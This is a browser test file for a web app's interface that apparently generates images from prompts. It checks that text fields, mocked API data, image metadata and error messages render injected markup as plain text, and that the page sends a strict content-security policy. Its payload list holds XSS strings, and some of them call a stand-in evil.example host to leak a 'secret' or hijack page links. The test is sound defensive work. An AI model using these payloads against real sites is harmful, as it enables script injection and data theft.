"""Text that wants to be code, in every field; and nothing but text comes of it."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import Route, expect

from prompts.metadata import png_with_infotext
from service.web.pages import STATIC

pytestmark = pytest.mark.browser

CORPUS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "![x](https://evil.example/?q=secret)",
    "<link rel=stylesheet href=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<math><mtext></table><mglyph><style><!--</style><img title=--&gt;&lt;img src=1 onerror=alert(1)&gt;>",
    "\u202e<b>gnp.exe</b>",
    "<object data=https://evil.example/></object>",
    "<body onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "`;alert(1)//",
    "<form action=https://evil.example/><input name=a autofocus onfocus=alert(1)>",
)
TAINTED = (
    "script:not([src])",
    "img[src='x']",
    "svg[onload]",
    "iframe",
    "object",
    "base",
    "[onerror]",
    "[onclick]",
    "style",
)


FIELDS = {
    "start.js": {"idea", "paste"},
    "panels/keys.js": {"key"},
    "panels/library.js": {"library-find"},
    "panels/paste.js": {"paste-text"},
    "panels/photo.js": {"wish-blocked"},
    "workbench/params.js": {"vae"},
    "workbench/prompt.js": {"prompt", "negative"},
    "workbench/talk.js": {"message"},
}
"""Every field of the page that takes any text, by the file that makes it; a new one must be attacked here too."""
TEXT_FIELD = re.compile(r"<(?:textarea|input)\b(?![^>]*type=\"(?:number|range|file|checkbox)\")[^>]*")


def test_every_text_field_of_the_page_is_attacked_below() -> None:
    found: dict[str, int] = {}
    for script in STATIC.rglob("*.js"):
        if "vendor" not in script.parts and (count := len(TEXT_FIELD.findall(script.read_text("utf-8")))):
            found[script.relative_to(STATIC).as_posix()] = count
    two_in_one = {"workbench/prompt.js": 1}  # one field, drawn for the prompt and for the negative prompt
    assert found == {name: two_in_one.get(name, len(ids)) for name, ids in FIELDS.items()}


def assert_only_text(page: Any) -> None:
    assert page.evaluate("s => [...document.querySelectorAll(s)].map(e => e.outerHTML)", ", ".join(TAINTED)) == []


def test_text_that_wants_to_be_code_stays_text_in_every_field(bench: Any) -> None:
    page = bench.open()
    evil = ", ".join(CORPUS)
    for field in ("#idea", "#paste"):
        page.fill(field, evil)
    page.click("#idea-send")
    page.wait_for_selector("#spell-pane, #alert")
    page.goto(bench.url)
    page.wait_for_selector("body[data-ready]")
    page.click("#write")
    for field in ("#prompt", "#negative", "#message", "#vae"):
        page.fill(field, evil, force=True)
    page.click("#mode-chips")
    page.click("#library")
    page.fill("#library-find", evil[:60])
    assert_only_text(page)
    page.locator("dialog header button").click()  # Escape empties a search field first
    page.click("#paste-open")
    page.fill("#paste-text", evil)
    assert_only_text(page)
    page.keyboard.press("Escape")
    assert_only_text(page)
    page.fill("#vae", "", force=True)
    page.fill("#prompt", "; ".join(CORPUS[:9]))
    page.fill("#width", "64")
    page.fill("#height", "64")
    page.press("#message", "Enter")
    page.wait_for_selector(".turn .reply")
    assert_only_text(page)
    page.click("#tab-versions")
    page.wait_for_selector("#versions li")
    page.click("#generate")
    page.wait_for_selector("#pictures img")
    page.locator("#pictures button").first.click()
    expect(page.locator("#metadata")).to_contain_text("onerror=alert(1)")
    assert_only_text(page)


def test_a_picture_s_metadata_an_error_and_names_are_text_too(bench: Any) -> None:
    page = bench.page
    evil = CORPUS[4]

    def poisoned(route: Route) -> None:
        body = route.fetch().json()
        body["samplers"].append(evil)
        body["checkpoints"][0] |= {"name": evil, "notice": evil}
        body["loras"] = [
            {"name": evil, "family": evil, "alias": "", "is_usable": True, "notice": "", "triggers": [evil]}
        ]
        body["llm"] = evil
        route.fulfill(json=body)

    page.route("**/api/catalogue", poisoned)
    page.route(
        "**/api/doctor",
        lambda route: route.fulfill(json=[{"name": evil, "state": "ok", "detail": evil, "remedy": evil}]),
    )
    bench.open(f"#spell={evil}&job={evil}")
    expect(page.locator("#alert")).to_be_visible()
    infotext = f"{evil}\nNegative prompt: {evil}\nSteps: 5, Sampler: {evil}, Seed: 1, Model: {evil}, App: {evil}"
    page.click("#new") if page.locator("#new").count() else None
    page.set_input_files(
        "#photo",
        {
            "name": f"{evil}.png",
            "mimeType": "image/png",
            "buffer": png_with_infotext(64, 64, bytes(64 * 64 * 3), infotext),
        },
    )
    page.wait_for_selector("#origin")
    page.click("#photo-options")
    page.fill("#wish-blocked", evil)
    assert_only_text(page)
    page.keyboard.press("Escape")
    page.click("#verdicts")
    page.wait_for_selector("#verdict-table")
    assert_only_text(page)
    page.keyboard.press("Escape")
    page.select_option("#lora-add", index=1)
    page.click("#doctor")
    page.wait_for_selector("#doctor-list li", timeout=60_000)  # it imports torch
    assert_only_text(page)
    problem = json.dumps({"code": evil, "detail": evil, "status": 422, "title": evil})
    page.keyboard.press("Escape")
    page.route(
        "**/api/spells/**",
        lambda route: route.fulfill(status=422, content_type="application/problem+json", body=problem),
    )
    page.route(
        "**/api/spells", lambda route: route.fulfill(status=422, content_type="application/problem+json", body=problem)
    )
    page.fill("#prompt", "another")
    page.click("#generate")
    expect(page.locator("#alert-text")).to_contain_text("onerror=alert(1)")
    assert_only_text(page)


@pytest.mark.parametrize(
    "bench", [{"settings": {"api_key": "a-key-of-forty-characters-a-key-of-forty"}}], indirect=True
)
def test_a_key_that_wants_to_be_code_is_text(bench: Any) -> None:
    page = bench.page
    page.goto(bench.url)
    page.fill("#key", CORPUS[4])
    page.click("#key-send")
    expect(page.locator("#key")).to_have_value("")  # refused, and asked for again
    assert_only_text(page)


def test_the_page_forbids_inline_code_and_other_origins(bench: Any) -> None:
    answer = bench.page.request.get(bench.url)
    policy = answer.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe" not in policy and "default-src 'self'" in policy
